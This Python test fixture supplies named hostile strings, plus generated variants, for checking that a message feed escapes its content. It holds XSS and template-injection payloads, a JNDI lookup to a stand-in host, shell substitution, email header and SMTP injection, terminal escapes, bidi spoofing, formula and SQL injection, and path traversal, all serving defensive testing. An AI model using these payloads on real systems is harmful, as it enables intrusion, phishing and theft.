"""Strings that a feed may hold to get out of its quotes: markup, mentions, headers, escapes."""

from collections.abc import Iterator

import pytest

_STRINGS = {
    "script": "<script>alert(1)</script>",
    "script, closing first": "</p></td></tr><script src=//x.example/a.js></script>",
    "image that calls home": '<img src="https://x.example/pixel.gif" width=1>',
    "event handler": "<b onmouseover=alert(1)>hover</b>",
    "svg": "<svg/onload=alert(1)>",
    "style": "<style>body{display:none}</style>",
    "iframe": '<iframe src="https://x.example"></iframe>',
    "form": '<form action="https://x.example"><input name=password></form>',
    "base": '<base href="https://x.example/">',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://x.example">',
    "comment": "<!-- swallow the rest",
    "comment closed": "--> out <!--",
    "cdata": "]]><b>out</b>",
    "attribute break": '" onclick="alert(1)" x="',
    "attribute break, single": "' onclick='alert(1)' x='",
    "attribute break, backtick": "` onclick=alert(1) `",
    "half a tag": "<a href=",
    "entity": "&lt;script&gt;",
    "numeric entity": "&#60;script&#62;",
    "entity without semicolon": "&ltscript&gt",
    "full-width brackets": "＜script＞alert(1)＜/script＞",
    "template": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "template statement": "{% for x in range(10**9) %}{% endfor %}",
    "template comment": "{# swallow #}",
    "percent format": "%(secret)s %s %n",
    "brace format": "{0.__class__} {secret}",
    "dollar": "${jndi:ldap://x.example/a} $(id) `id`",
    "slack channel": "<!channel> wake up",
    "slack here": "<!here|here>",
    "slack everyone": "<!everyone>",
    "slack user": "<@U012AB3CD>",
    "slack group": "<!subteam^S012AB3CD>",
    "slack date": "<!date^1392734382^{date}^https://x.example|now>",
    "slack link": "<https://evil.example|https://bank.example>",
    "slack link in halves": "<https://evil.example|",
    "slack bare mention": "@channel @everyone",
    "slack bold": "*bold* _italic_ ~gone~ `code` ```block```",
    "slack quote": ">>> quoted",
    "slack emoji": ":rotating_light: :bomb:",
    "markdown link": "[bank](https://evil.example)",
    "markdown image": "![x](https://x.example/pixel.gif)",
    "heading look-alike": "ALL CLEAR",
    "header, CRLF": "quiet\r\nBcc: all@example.org",
    "header, LF": "quiet\nX-Injected: yes",
    "header, CR": "quiet\rX-Injected: yes",
    "header, vertical tab": "quiet\x0bX-Injected: yes",
    "header, form feed": "quiet\x0cX-Injected: yes",
    "header, NEL": "quiet\x85X-Injected: yes",
    "header, line separator": "quiet\u2028X-Injected: yes",
    "header, paragraph separator": "quiet\u2029X-Injected: yes",
    "header, file separator": "quiet\x1cX-Injected: yes",
    "header, body begins": "quiet\r\n\r\n<html>",
    "encoded word": "=?utf-8?q?quiet=0D=0AX-Injected:_yes?=",
    "encoded word, base64": "=?utf-8?b?DQpYLUluamVjdGVkOiB5ZXM=?=",
    "boundary": "--===============0123456789==--",
    "end of data": "\r\n.\r\nMAIL FROM:<x@x.example>\r\n",
    "end of data, bare": "\n.\nRCPT TO:<x@x.example>\n",
    "NUL": "be\x00fore",
    "escape": "\x1b[2J\x1b[1;31mred\x1b[0m",
    "terminal title": "\x1b]0;owned\x07",
    "terminal link": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "C1 control": "\x9b2J\x9d0;owned\x9c",
    "backspace": "calm\b\b\b\bwar",
    "delete": "calm\x7f\x7f",
    "bidi override": "\u202eevil.example\u202c",
    "bidi isolate": "\u2066left\u2067right\u2069",
    "bidi marks": "\u200e\u200f\u061cmarks",
    "zero width": "sh\u200bell\u2060ing\ufeff",
    "soft hyphen": "shell\u00ading",
    "tag characters": "flag\U000e0001\U000e0041\U000e007f",
    "noncharacter": "\ufffe\uffff\ufdd0",
    "lone surrogate": "half \ud83d a pair",
    "lone surrogate, low": "\udc00 begins",
    "private use": "\ue000 \U000f0000",
    "combining marks": "Z" + "\u0301" * 500,
    "ligature that grows": "\ufdfa" * 50,
    "emoji sequence": "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "arabic": "قصفت المدفعية البلدات ليلا",
    "persian with joiners": "می\u200cخواهم",
    "hebrew and latin": "שלום world (test) 14",
    "very long": "The shells fell on the town. " * 4000,
    "one very long word": "x" * 50_000,
    "very long, all escaped": "<&>" * 20_000,
    "many lines": "line\n" * 5_000,
    "empty": "",
    "blank": " \t\r\n \u00a0\u3000",
    "formula": '=HYPERLINK("https://evil.example","bank")',
    "formula, plus": "+1+1",
    "formula, at": "@SUM(1+1)",
    "json": '"}],"level":"calm","x":[{"',
    "json unicode": "\\u003cscript\\u003e",
    "javascript address": "javascript:alert(1)",
    "javascript address, spaced": "java\tscript:alert(1)",
    "data address": "data:text/html,<script>alert(1)</script>",
    "vbscript address": "vbscript:msgbox(1)",
    "file address": "file:///etc/passwd",
    "address with user": "https://bank.example@evil.example/",
    "address with backslash": "https://evil.example\\@bank.example/",
    "address with quote": 'https://x.example/"onclick="alert(1)',
    "address with pipe": "https://x.example/a|https://bank.example>",
    "address in another script": "https://раураl.example/login",
    "address with override": "https://x.example/\u202egpj.exe",
    "address without scheme": "//evil.example/path",
    "address with port junk": "https://x.example:99999999/",
    "address with bracket": "https://[::1/",
    "sql": "'; DROP TABLE alerts; --",
    "path": "../../../../etc/passwd",
}  # fmt: skip

HOSTILE = [pytest.param(text, id=name) for name, text in _STRINGS.items()]

#: characters that end a line somewhere
_LINE_ENDS = (
    "\r\n",
    "\n",
    "\r",
    "\x0b",
    "\x0c",
    "\x1c",
    "\x1d",
    "\x1e",
    "\x85",
    "\u2028",
    "\u2029",
)
_HEADERS = ("Bcc: all@example.org", "Content-Type: text/html", "Reply-To: x@x.example")
#: characters that are not seen and yet act
_CONTROLS = (*range(0x20), *range(0x7F, 0xA0), 0xAD, 0x61C, 0x180E, 0x200B, 0x200E, 0x200F)
_ORDERS = (*range(0x202A, 0x202F), *range(0x2060, 0x2070), 0xFEFF, 0xFFF9, 0xFFFE, 0xE0001, 0xE007F)
#: what wakes people, service by service, and where it may stand
_MENTIONS = (
    *("@channel", "@here", "@everyone", "@all", "@room", "@U012AB3CD", "<!channel>", "<!here>"),
    *("<@U012AB3CD>", "<#C012AB3CD>", "<at>Duty Officer</at>", "<@&165511591545143296>"),
    *("@[Duty](user:1)", "tg://user?id=1", "/stop@bot", "#panic"),
)
_AROUND = ("{}", "fire {} now", "({})", "fire\n{}\nnow", "\u200b{}", "*{}*")
#: markup in pairs and alone
_MARKS = (
    "**",
    "__",
    "~~",
    "||",
    "```",
    "`",
    "==",
    "$$",
    ">>>",
    "> ",
    "# ",
    "- ",
    "1. ",
    "+ ",
    "* ",
)
_COMPUTED = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "|=",
    ";=",
    '"=',
    "＝",
    "＋",
    "－",
    "＠",
)


def _made() -> Iterator[str]:
    for end in _LINE_ENDS:
        yield from (f"quiet{end}{header}" for header in _HEADERS)
        yield f"quiet{end}{end}<html><b>body</b></html>"
    for code in (*_CONTROLS, *_ORDERS):
        yield f"sh{chr(code)}elling"
    for mention in _MENTIONS:
        yield from (around.format(mention) for around in _AROUND)
    for mark in _MARKS:
        yield from (f"{mark}word{mark}", f"line\n{mark}word")
    yield from (f"{mark}HYPERLINK(1)" for mark in _COMPUTED)


#: made by rule, beside those that have a name
MADE = tuple(_made())
EVERY = (*_STRINGS.values(), *MADE)
